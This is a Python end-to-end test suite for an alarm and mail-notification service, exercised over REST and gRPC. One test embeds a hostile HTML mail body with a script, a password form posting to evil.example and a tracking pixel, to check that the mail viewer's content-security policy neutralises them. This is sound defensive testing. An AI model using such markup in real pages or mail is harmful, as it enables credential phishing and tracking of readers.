"""What a user does on the first day, through REST and through gRPC, on five real processes."""

import asyncio
import json
import secrets
from datetime import UTC, datetime, timedelta
from typing import Any

import grpc
import httpx2
import pytest

from tocsin.api.auth.v1 import auth_service_pb2, auth_service_pb2_grpc
from tocsin.api.mailer.v1 import inbox_service_pb2, inbox_service_pb2_grpc
from tocsin.api.scheduler.v1 import alarm_pb2, alarm_service_pb2, alarm_service_pb2_grpc, firing_service_pb2, firing_service_pb2_grpc
from tocsin.testing.stack import RunningStack
from tocsin.testing.waiting import eventually

pytestmark = pytest.mark.e2e


def soon(seconds: float = 2.0) -> str:
    """The instant ``seconds`` from now, in RFC 3339."""
    return (datetime.now(UTC) + timedelta(seconds=seconds)).isoformat()


def mail(subject: str, **trigger: Any) -> dict[str, Any]:
    """An alarm that mails ``subject``."""
    return {
        "displayName": subject,
        "labels": {"team": "core"},
        "trigger": trigger,
        "action": {"notify": {"to": ["ann@example.com"], "subject": subject, "text": "In five minutes."}},
    }


async def inbox(client: httpx2.AsyncClient, subject: str) -> list[dict[str, Any]]:
    """The mails with this subject."""
    answer = await client.get("/v1/inbox/messages", params={"page_size": 1000})
    assert answer.status_code == 200, answer.text
    return [message for message in answer.json().get("messages", []) if message["subject"] == subject]


async def test_an_alarm_rings_once(client: httpx2.AsyncClient) -> None:
    """From the curl of the README to the mail, its delivery, and the row in the ledger."""
    subject = f"stand-up {secrets.token_hex(4)}"
    made = await client.post("/v1/alarms", json=mail(subject, at=soon()))
    assert made.status_code == 200, made.text
    alarm = made.json()
    assert alarm["state"] == "ACTIVE"
    assert alarm["priority"] == "NORMAL"

    async def arrived() -> bool:
        return len(await inbox(client, subject)) == 1

    await eventually(arrived)
    message = (await inbox(client, subject))[0]
    assert message["to"] == ["ann@example.com"]
    assert message["text"].strip() == "In five minutes."

    async def closed() -> bool:
        page = await client.get("/v1/firings", params={"filter": f'alarm="{alarm["name"]}"'})
        return [firing["state"] for firing in page.json().get("firings", [])] == ["SUCCEEDED"]

    await eventually(closed)
    firing = (await client.get("/v1/firings", params={"filter": f'alarm="{alarm["name"]}"'})).json()["firings"][0]
    assert firing["outcome"] in ("FIRED", "LATE")  # a busy machine may be late
    assert firing["attempts"] == 1
    assert (await client.get(f"/v1/{alarm['name']}")).json()["state"] == "COMPLETED"
    delivery = (await client.get(f"/v1/{message['delivery']}")).json()
    assert delivery["state"] == "SENT"
    assert delivery["firing"] == firing["name"]
    assert [event["state"] for event in delivery["timeline"]][-1] == "SENT"


HOSTILE_HTML = (
    "<script>alert(1)</script><form action='https://evil.example'><input name='password'></form><img src='https://evil.example/pixel'>"
    "<style>body{position:fixed;inset:0;background:red}</style><p onclick='alert(2)'>مرحبا &#128276;</p>"
)


async def test_a_mail_is_shown_as_it_is_and_can_do_nothing(client: httpx2.AsyncClient) -> None:
    """Its HTML reaches the frame unchanged, and the answer forbids script, forms, whatever lies elsewhere, and every frame but our own."""
    subject = f"hostile {secrets.token_hex(4)}"
    body = {"to": ["ann@example.com"], "subject": subject, "text": "plain words", "html": HOSTILE_HTML}
    sent = await client.post("/v1/notifications", json=body)
    assert sent.status_code == 200, sent.text

    async def arrived() -> bool:
        return len(await inbox(client, subject)) == 1

    await eventually(arrived)
    message = (await inbox(client, subject))[0]
    shown = await client.get(f"/v1/{message['name']}:show")
    assert (shown.status_code, shown.headers["content-type"]) == (200, "text/html; charset=utf-8")
    assert shown.text == message["html"]
    policy = [part.strip() for part in shown.headers["content-security-policy"].split(";")]
    assert {"sandbox", "default-src 'none'", "form-action 'none'", "frame-ancestors 'self'", "img-src data:"} <= set(policy)
    assert not any(part.startswith("script-src") for part in policy)
    assert (await client.get("/v1/inbox/messages/none:show")).status_code == 404


async def test_the_short_form_makes_an_alarm_with_and_without_the_slash(client: httpx2.AsyncClient) -> None:
    """The four fields of the first alarm system are enough."""
    for path in ("/alarms/", "/alarms"):
        body = {"code_id": "TEST_001", "email": "test@example.com", "time": "14:30:00", "is_recurring": False}
        made = await client.post(path, json=body)
        assert made.status_code == 200, made.text
        assert made.json()["labels"] == {"code_id": "TEST_001"}
        assert made.json()["next_fire_time"].endswith("T14:30:00Z")
        listed = await client.get(path, params={"filter": 'labels.code_id="TEST_001"'})
        assert made.json()["name"] in [alarm["name"] for alarm in listed.json()["alarms"]]


async def test_a_recurring_alarm_can_be_paused_resumed_fired_and_removed(client: httpx2.AsyncClient) -> None:
    """Everything that one does to an alarm during its life."""
    subject = f"daily {secrets.token_hex(4)}"
    trigger = {"daily": {"time": "09:00", "recurring": True}, "timeZone": "Europe/Paris"}
    name = (await client.post("/v1/alarms", json=mail(subject, **trigger))).json()["name"]
    assert (await client.post(f"/v1/{name}:pause", json={})).json()["state"] == "PAUSED"
    assert "nextFireTime" not in (await client.get(f"/v1/{name}")).json()
    assert (await client.post(f"/v1/{name}:resume", json={})).json()["state"] == "ACTIVE"
    changed = await client.patch(f"/v1/{name}", json={"displayName": "new name"})
    assert changed.status_code == 200, changed.text
    assert changed.json()["displayName"] == "new name"
    assert changed.json()["trigger"]["daily"]["time"] == "09:00:00"
    fired = await client.post(f"/v1/{name}:fire", json={})
    assert fired.json()["alarm"] == name

    async def arrived() -> bool:
        return len(await inbox(client, subject)) == 1

    await eventually(arrived)
    assert (await client.delete(f"/v1/{name}")).status_code == 200
    assert (await client.get(f"/v1/{name}")).status_code == 404


async def test_an_interval_fires_again_and_again(client: httpx2.AsyncClient) -> None:
    """Three due times of one second each make three mails and three rows, and then the alarm is complete."""
    subject = f"every {secrets.token_hex(4)}"
    made = await client.post("/v1/alarms", json=mail(subject, every="1s", count=3))
    assert made.status_code == 200, made.text
    name = made.json()["name"]

    async def complete() -> bool:
        return len(await inbox(client, subject)) == 3 and (await client.get(f"/v1/{name}")).json()["state"] == "COMPLETED"

    await eventually(complete)
    firings = (await client.get("/v1/firings", params={"filter": f'alarm="{name}"'})).json()["firings"]
    assert len({firing["dueTime"] for firing in firings}) == 3


async def test_a_template_is_filled_in(client: httpx2.AsyncClient) -> None:
    """A stored text with variables becomes a mail; a missing variable is told before anything is sent."""
    code = f"t{secrets.token_hex(4)}"
    template = {"name": f"templates/{code}", "subject": f"Hi {{{{ who }}}} {code}", "text": "Dear {{ who }}", "html": "<b>{{ who }}</b>"}
    made = await client.post("/v1/templates", json=template)
    assert made.status_code == 200, made.text
    assert made.json()["variables"] == ["who"]
    rendered = await client.post(f"/v1/templates/{code}:render", json={"variables": {"who": "<Ann>"}})
    assert rendered.json() == {"subject": f"Hi <Ann> {code}", "text": "Dear <Ann>", "html": "<b>&lt;Ann&gt;</b>"}
    missing = await client.post(f"/v1/templates/{code}:render", json={})
    assert missing.status_code == 400
    assert "who" in missing.text
    notify = {"to": ["ann@example.com"], "template": f"templates/{code}", "variables": {"who": "Ann"}}
    assert (await client.post("/v1/alarms", json={"trigger": {"at": soon()}, "action": {"notify": notify}})).status_code == 200

    async def arrived() -> bool:
        return len(await inbox(client, f"Hi Ann {code}")) == 1

    await eventually(arrived)


async def test_a_task_runs_and_its_result_is_read_by_id(client: httpx2.AsyncClient) -> None:
    """Submitting answers at once; the result follows."""
    made = await client.post("/v1/tasks", json={"handler": "uppercase", "input": {"text": "hello"}})
    assert made.status_code == 200, made.text
    assert made.json()["state"] == "QUEUED"

    async def done() -> bool:
        return (await client.get(f"/v1/{made.json()['name']}")).json()["state"] == "SUCCEEDED"

    await eventually(done)
    assert (await client.get(f"/v1/{made.json()['name']}")).json()["result"] == {"text": "HELLO"}
    listed = (await client.get("/v1/tasks")).json()["tasks"]
    assert made.json()["name"] in [task["name"] for task in listed]


async def test_a_record_is_added_and_run(client: httpx2.AsyncClient) -> None:
    """The key-value pair of the first task system, and the id that /run answers with."""
    key = f"k{secrets.token_hex(4)}"
    assert (await client.post("/add", json={"key": key, "value": "quiet"})).status_code == 200
    assert (await client.get(f"/v1/records/{key}")).json()["value"] == "quiet"
    started = await client.post("/run", json={"key": key})
    assert started.status_code == 200, started.text

    async def done() -> bool:
        task = (await client.get(f"/v1/tasks/{started.json()['task_id']}")).json()
        return task.get("result") == {"text": "QUIET"}

    await eventually(done)


async def test_a_watcher_sees_each_firing(client: httpx2.AsyncClient) -> None:
    """NDJSON and SSE show the same change of the same firing."""
    for accept, prefix in (("application/x-ndjson", ""), ("text/event-stream", "data: ")):
        subject = f"watched {secrets.token_hex(4)}"
        name = (await client.post("/v1/alarms", json=mail(subject, every="1s", count=30))).json()["name"]
        async with client.stream("GET", "/v1/firings:watch", params={"alarm": name}, headers={"Accept": accept}, timeout=60) as stream:
            assert stream.headers["content-type"].startswith(accept)
            async for line in stream.aiter_lines():
                if line.startswith(prefix + "{"):
                    event = json.loads(line.removeprefix(prefix))
                    found = event.get("result", event)
                    assert found["firing"]["alarm"] == name
                    break


Told = list[tuple[str, str]]
"""Changes: each one's token and what it says."""


async def _listen(client: httpx2.AsyncClient, alarm: str, told: Told, *, most: int, last_event_id: str = "") -> None:
    """Puts the changes of the firings of an alarm into ``told``, until there are so many; a first entry says that the watch has begun."""
    headers = {"Accept": "text/event-stream", **({"Last-Event-ID": last_event_id} if last_event_id else {})}
    async with client.stream("GET", "/v1/firings:watch", params={"alarm": alarm}, headers=headers, timeout=90) as stream:
        token = ""
        told.append(("begun", ""))
        async for line in stream.aiter_lines():
            if line.startswith("id: "):
                token = line.removeprefix("id: ")
            elif line.startswith("data: "):
                told.append((token, line))
                if len(told) > most:
                    break


async def test_those_who_watch_the_same_hear_the_same(client: httpx2.AsyncClient, stranger: httpx2.AsyncClient) -> None:
    """Twenty watchers of an alarm are told the same; who comes back with a token hears what followed it; a stranger nothing."""
    name = (await client.post("/v1/alarms", json=mail(f"shared {secrets.token_hex(4)}", every="1s", count=90))).json()["name"]
    whole, strange = Told(), Told()
    stay = [asyncio.create_task(_listen(client, name, whole, most=1000)), asyncio.create_task(_listen(stranger, name, strange, most=1))]
    await eventually(lambda: bool(whole and strange))
    heard = [Told() for _ in range(20)]
    await asyncio.gather(*(_listen(client, name, told, most=4) for told in heard))
    again = Told()
    await _listen(client, name, again, most=2, last_event_id=heard[0][2][0])
    rows = [*(told[1:] for told in heard), heard[0][1:3] + again[1:]]
    await eventually(lambda: all(row[-1] in whole for row in rows))
    for task in stay:
        task.cancel()
    await asyncio.gather(*stay, return_exceptions=True)
    assert all(row == whole[whole.index(row[0]) :][: len(row)] for row in rows)
    assert len(strange) == 1
    await client.delete(f"/v1/{name}")


async def test_the_same_journey_over_grpc(stack: RunningStack) -> None:
    """The gRPC edge takes an API key, makes an alarm, streams its firing, and shows the mail."""
    subject = f"grpc {secrets.token_hex(4)}"
    metadata = (("authorization", f"Bearer {stack.api_key}"),)
    async with grpc.aio.insecure_channel(stack.info["grpc"]) as channel:
        who = await auth_service_pb2_grpc.AuthServiceStub(channel).VerifyToken(auth_service_pb2.VerifyTokenRequest(), metadata=metadata)
        assert who.subject.startswith("apiKeys/")
        notify = alarm_pb2.Notify(to=["ann@example.com"], subject=subject, text="hello")
        alarm = alarm_pb2.Alarm(action=alarm_pb2.Action(notify=notify))
        alarm.trigger.every.FromSeconds(1)
        alarm.trigger.count = 30  # the watch sees changes from its own begin on: one of the thirty is after it
        alarms = alarm_service_pb2_grpc.AlarmServiceStub(channel)
        made = await alarms.CreateAlarm(alarm_service_pb2.CreateAlarmRequest(alarm=alarm), metadata=metadata)
        firings = firing_service_pb2_grpc.FiringServiceStub(channel)
        watch = firings.WatchFirings(firing_service_pb2.WatchFiringsRequest(alarm=made.name), metadata=metadata, timeout=60)
        async for change in watch:
            if change.firing.state == firing_service_pb2.Firing.SUCCEEDED:
                break
        messages = await inbox_service_pb2_grpc.InboxServiceStub(channel).ListMessages(
            inbox_service_pb2.ListMessagesRequest(page_size=100), metadata=metadata
        )
        assert subject in [message.subject for message in messages.messages]
        with pytest.raises(grpc.aio.AioRpcError) as refused:
            await alarms.GetAlarm(alarm_service_pb2.GetAlarmRequest(name=made.name))
        assert refused.value.code() is grpc.StatusCode.UNAUTHENTICATED


async def test_another_tenant_sees_nothing(client: httpx2.AsyncClient, stranger: httpx2.AsyncClient) -> None:
    """Ids of another tenant do not exist, whatever one does with them."""
    name = (await client.post("/v1/alarms", json=mail("private", every="3600s"))).json()["name"]
    for answer in (
        await stranger.get(f"/v1/{name}"),
        await stranger.delete(f"/v1/{name}"),
        await stranger.post(f"/v1/{name}:fire", json={}),
        await stranger.post(f"/v1/{name}:pause", json={}),
        await stranger.patch(f"/v1/{name}", json={"displayName": "mine"}),
    ):
        assert answer.status_code == 404, answer.text
    assert (await stranger.get("/v1/alarms")).json().get("alarms", []) == []
    assert (await client.get(f"/v1/{name}")).json()["displayName"] == "private"


async def test_health_tells_the_whole_picture_to_anybody(stack: RunningStack) -> None:
    """No token is needed, and each service and breaker is there."""
    async with httpx2.AsyncClient(base_url=stack.info["http"], trust_env=False) as anybody:
        health = (await anybody.get("/health")).json()
        assert health["status"] == "healthy"
        assert {"auth", "scheduler", "processor", "mailer"} <= health["services"].keys()
        assert {"auth", "scheduler", "processor", "mailer"} <= health["circuitBreakers"].keys()
        for path in ("/docs", "/openapi.json", "/.well-known/jwks.json"):
            assert (await anybody.get(path)).status_code == 200, path
